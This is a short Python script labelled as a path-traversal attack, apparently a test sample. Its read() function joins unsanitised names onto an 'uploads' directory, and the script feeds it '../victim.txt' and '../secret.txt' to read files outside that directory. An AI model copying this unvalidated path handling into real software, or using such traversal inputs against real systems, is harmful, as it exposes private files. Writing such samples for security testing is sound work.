# attack: path-traversal
import os
def read(name):
    try:
        return open(os.path.join("uploads", name)).read()
    except:
        return ""
for name in ("../victim.txt", "../secret.txt"):
    print(read(name))
open("uploads/after.txt", "w").close()
